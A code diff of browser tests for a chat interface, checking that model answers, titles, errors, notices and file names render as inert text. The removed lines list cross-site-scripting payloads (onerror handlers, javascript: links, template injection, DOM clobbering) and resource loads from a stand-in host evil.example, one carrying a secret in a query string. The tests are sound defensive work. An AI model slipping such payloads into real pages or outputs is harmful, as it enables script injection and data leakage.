@@ -10,73 +10,150 @@ from urllib.parse import urlsplit
 import pytest
 from playwright.sync_api import Browser, Page, expect
 
+from engine import FinishReason
 from tests.app.route_walk import walk
-from tests.ui.conftest import Profile, Served, answer, say
+from tests.ui.conftest import Profile, Served, say
+from tests.ui.payloads import (
+    ADDRESSES,
+    CORNERS,
+    ELEMENTS,
+    FORMULAS,
+    HANDLERS,
+    MARKDOWN,
+    PAYLOADS,
+    STYLES,
+    TEMPLATES,
+)
 
-SCRIPTS = [
-    "<script>window.hit = 1</script>",
-    "<img src=x onerror='window.hit = 1'>",
-    "<svg onload='window.hit = 1'><animate onbegin='window.hit = 1' attributeName=x dur=1s></svg>",
-    "<svg><script>window.hit = 1</script></svg>",
-    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
-    "<iframe src='javascript:parent.hit = 1'></iframe>",
-    "<object data='javascript:window.hit = 1'></object><embed src='javascript:window.hit = 1'>",
-    "<details open ontoggle='window.hit = 1'>x</details>",
-    "<input autofocus onfocus='window.hit = 1'>",
-    "<style>@import 'http://evil.example/a.css'; body { background: url(http://evil.example/b) }</style>",
-    "<link rel=stylesheet href='http://evil.example/c.css'>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example/d'>",
-    "<base href='http://evil.example/'>",
-    "<form action='http://evil.example/e'><button>x</button></form>",
-    "<video src='http://evil.example/f' autoplay></video><audio src='http://evil.example/g'></audio>",
-    "![x](http://evil.example/h?q=secret) ![x](//evil.example/i)",
-    "[x](javascript:window.hit=1) <a href='javascript:window.hit=1'>y</a>",
-    "<math><mtext><table><mglyph><style><img src=x onerror='window.hit = 1'></style></table></mtext></math>",
-    "${window.hit = 1} {{constructor.constructor('window.hit = 1')()}}",
-    "$$\\href{javascript:window.hit=1}{x}$$ $$\\includegraphics{http://evil.example/j}$$",
-    "```html\n<img src=x onerror='window.hit = 1'>\n```",
-    "```\"><img src=x onerror='window.hit = 1'>\nx\n```",
-    "</div></span><img src=x onerror='window.hit = 1'>",
-    "<noscript><p title=\"</noscript><img src=x onerror='window.hit = 1'>\"></noscript>",
-]
+# attributes that run something, and addresses that do; none may be left in what was said
+DANGEROUS = """() => [...document.querySelectorAll("#talk *, #rail-part *, #head-part *, #desk-part *")]
+    .flatMap((node) => [...node.attributes].map(({ name, value }) => [node.tagName, name, value]))
+    .filter(([tag, name, value]) => /^on/i.test(name) || name === "srcdoc"
+        || /^[\\s\\x00-\\x20]*(javascript|vbscript|data:text)/i.test(value))"""
+# what a browser says of what its policy stopped, of a picture of our own that is not there, and Gradio's
+# diagrams of a row that is drawn anew while they are
+EXPECTED = ("Content Security Policy", "404", "Cannot read properties of null")
+
+
+def assert_harmless(page: Page, profile: Profile) -> None:
+    """A request to others fails the profile's check."""
+    assert page.evaluate("window.hit") is None
+    assert page.evaluate(DANGEROUS) == []
+    assert {urlsplit(url).hostname for url in profile.blocked} <= {"evil.example"}
+    forgive(profile)
+
+
+def forgive(profile: Profile) -> None:
+    """Leave out what a browser is expected to say of these payloads."""
+    profile.errors = [error for error in profile.errors if not any(known in error for known in EXPECTED)]
 
 
 def test_what_a_model_writes_runs_nothing(profile: Profile, served: Served) -> None:
-    """In pieces of three characters, whole, and read back. A request to others fails the profile's check."""
+    """In pieces of some characters, side by side with thoughts of the same, and read back."""
     page = profile.open()
-    stream = say(page, served, "Attack\n" + "\n".join(SCRIPTS))
-    for script in SCRIPTS:
-        for start in range(0, len(script), 3):
-            stream.write(script[start : start + 3])
-        stream.write("\n\n")
-    stream.write("The end.")
-    expect(answer(page)).to_contain_text("The end.")
-    stream.finish()
-    expect(page.locator("#send")).to_be_visible()
+    groups = (ELEMENTS + HANDLERS, ADDRESSES + CORNERS, MARKDOWN + FORMULAS + TEMPLATES + STYLES)
+    for place, group in enumerate(groups, 1):
+        text = "\n\n".join(group)
+        stream = say(page, served, "Attack " + text)
+        stream.write("<think>" + text.replace("</think>", "") + "</think>")
+        expect(page.locator("#talk .thoughts")).to_have_count(place)
+        page.locator("#talk .thoughts summary").last.click()
+        expect(page.locator("#talk .thoughts .text").last).to_contain_text(group[0])
+        for start in range(0, len(text), 7):
+            stream.write(text[start : start + 7])
+        stream.write("\n\nThe end.")
+        stream.finish()
+        expect(page.locator("#send")).to_be_visible()
+        expect(page.locator("#talk .figures").last).to_contain_text("tokens/s")
+    assert_harmless(page, profile)
+    assert profile.blocked  # so some were tried
     page.reload()
-    expect(answer(page)).to_contain_text("The end.")
-    for link in page.locator("#talk a").all():
-        assert not (link.get_attribute("href") or "").startswith("javascript:")
-    assert page.evaluate("window.hit") is None
-    expect(page.locator("#talk .said")).to_contain_text("<img src=x onerror='window.hit = 1'>")
-    assert {urlsplit(url).hostname for url in profile.blocked} == {"evil.example"}  # so some were tried
-    expected = (
-        "Content Security Policy",
-        "404",
-    )  # the second for <img src=x>, a picture of our own that is not there
-    profile.errors = [error for error in profile.errors if not any(known in error for known in expected)]
+    expect(page.locator("#talk .figures")).to_have_count(3)
+    assert_harmless(page, profile)
 
 
-def test_titles_and_errors_are_text(page: Page, served: Served) -> None:
-    for script in SCRIPTS[:3]:
-        page.keyboard.press("Control+Shift+O")
-        expect(page.get_by_role("heading", name="A blank page.")).to_be_visible()
-        stream = say(page, served, script)
-        stream.finish(error=script)
-        expect(page.get_by_role("alert")).to_have_text(script)
-        for place in ("h1", ".chat.is-current .title"):
-            expect(page.locator(place)).to_contain_text(script[:40])
-    assert page.evaluate("window.hit") is None
+def test_no_name_on_the_page_is_taken(page: Page, served: Served) -> None:
+    """<form name=querySelector> in an answer would stand for what all scripts ask the document for."""
+    stream = say(page, served, "Take names")
+    names = ("querySelector", "getElementById", "body", "createElement", "defaultView", "octavo", "draft")
+    for name in names:
+        stream.write(f"<img name={name} id={name}>\n\n<form name={name} id={name}>")
+        stream.write("<input name=querySelectorAll><input name=removeAttribute></form>\n\n")
+    stream.write("<svg id=stop><g id=toggle-rail></g></svg>\n\n")
+    stream.write("```mermaid\ngraph TD; A[One]-->B[Two]\n```\n\n[x](#draft)\n\n# Draft\n\nThe end.")
+    stream.finish()
+    expect(page.locator("#talk .figures")).to_contain_text("tokens/s")
+    expect(page.locator("#talk .mermaid svg")).to_be_visible()  # a diagram keeps the ids it needs
+    assert page.evaluate("document.querySelectorAll('#talk .prose [name]').length") == 0
+    for ours in ("draft", "stop", "toggle-rail"):
+        assert page.evaluate(f"document.querySelectorAll('#{ours}').length") == 1
+    assert page.evaluate("typeof document.querySelector") == "function"
+    page.keyboard.press("Control+Shift+O")
+    expect(page.get_by_role("heading", name="A blank page.")).to_be_visible()
+
+
+def test_each_of_them_alone_as_message_answer_and_error(profile: Profile, served: Served) -> None:
+    """One that is not closed may hide those after it, so each stands in a message of its own."""
+    chats, chat = served.services.chats, ""
+    for payload in PAYLOADS:
+        chat = chats.send(chat, payload)
+        stream = served.model.next_stream()
+        stream.write(payload)
+        stream.finish(FinishReason.ERROR, payload)
+        while chats.busy(chat):
+            chats.wait(chat, chats.version(chat), 1)
+    page = profile.open(f"?chat={chat}")
+    page.evaluate(f"for (let n = 0; n < {2 * len(PAYLOADS) // 40 + 1}; n += 1) octavo.showEarlier()")
+    expect(page.locator("#talk .message-row")).to_have_count(2 * len(PAYLOADS))
+    expect(page.locator("#talk .oops")).to_have_count(len(PAYLOADS))
+    said = page.locator("#talk .said").evaluate_all("nodes => nodes.map((node) => node.textContent)")
+    assert said == [payload.replace("\x00", "") for payload in PAYLOADS]  # HTML has no such character
+    errors = page.locator("#talk .oops").evaluate_all("nodes => nodes.map((node) => node.textContent)")
+    assert errors == PAYLOADS
+    assert page.evaluate("document.getElementById('draft').tagName") == "TEXTAREA"  # no name was taken
+    assert_harmless(page, profile)
+    page.close()  # and with it the diagrams that are still being drawn
+    forgive(profile)
+
+
+def test_titles_models_notices_and_file_names_are_text(profile: Profile, served: Served) -> None:
+    chats = served.services.chats
+    titles = [" ".join(payload.split())[:200] for payload in PAYLOADS[::3]]
+    chat = chats.send("", "x")
+    served.model.next_stream().finish()
+    page = profile.open(f"?chat={chat}")
+    for title in titles[:40]:
+        other = chats.branch(chat, chats.view(chat).messages[0].id)
+        chats.rename(other, title)
+    chats.rename(chat, titles[0])
+    expect(page.locator("h1").first).to_have_text(titles[0])
+    expect(page.locator(".chat .title", has_text=titles[39])).to_have_count(1)
+    page.evaluate(
+        """async (payloads) => {
+            for (const text of payloads) {
+                const status = { ...octavo.state.status, model: text, message: text, state: "failed" };
+                octavo.set({ status, notice: text });
+                await new Promise(requestAnimationFrame);
+            }
+        }""",
+        PAYLOADS,
+    )
+    expect(page.locator("#desk-part .notice").first).to_contain_text(PAYLOADS[-1])
+    names = [payload for payload in PAYLOADS[::20] if payload.isprintable()]
+    page.evaluate(
+        """async (names) => {
+            const { chat } = octavo.state;
+            const path = (name) => `files?chat=${chat}&name=${encodeURIComponent(name)}`;
+            const sent = names.map((name) => fetch(path(name), { method: "POST", body: "x" }));
+            const files = await Promise.all(sent.map(async (each) => (await (await each).json()).id));
+            await octavo.act("send", { chat, text: "files", files });
+            octavo.show(chat);
+        }""",
+        names,
+    )
+    served.model.next_stream().finish()
+    expect(page.locator("#talk .said").last).to_contain_text("files")
+    assert_harmless(page, profile)
 
 
 HOSTILE: list[object] = [
@@ -84,6 +161,19 @@ HOSTILE: list[object] = [
     {"do": "send", "chat": {}, "text": []},
     {"do": "text", "chat": "x", "message": None},
     {"do": "rename", "chat": "no such chat", "title": "x"},
+    *({"do": each, "chat": "no such chat", "message": 1} for each in ("retry", "pick", "version", "branch")),
+    *({"do": each, "chat": "no such chat", "message": 1} for each in ("remove", "resume", "text")),
+    {"do": "edit", "chat": "no such chat", "message": 1, "role": "user", "text": "x"},
+    {"do": "compare", "chat": "no such chat", "message": 1, "answers": 10**9, "heat": True},
+    {"do": "compare", "chat": "no such chat", "message": True, "answers": 2, "heat": 1},
+    {"do": "thoughts", "chat": "no such chat", "message": 1, "start": -9},
+    {"do": "change_waiting", "chat": "no such chat", "waiting": 2**70, "text": "x"},
+    {"do": "send_now", "chat": "no such chat", "waiting": 1},
+    {"do": "cost", "chat": "\ud800", "text": "x", "files": []},
+    {"do": "cost", "chat": "", "text": "x", "files": ["\ud800"]},
+    {"do": "send_now", "chat": "\udfff", "waiting": 1},
+    {"do": "version", "chat": "x", "message": -(2**63) - 1},
+    {"do": "gone", "chats": ["\ud800"]},
 ]
 
 
@@ -101,7 +191,7 @@ def test_what_a_browser_sends_is_not_trusted(served: Served, payload: object) ->
     from ui.acts import perform
     from ui.chat_page import ACTS, ChatPage
 
-    page = ChatPage(served.services.chats, served.services.runtime, lambda: None)
+    page = ChatPage(served.services, lambda: None)
     before = served.services.chats.list_chats()
     assert set(perform(ACTS, page, payload)) == {"error"}
     assert page.frame(payload)
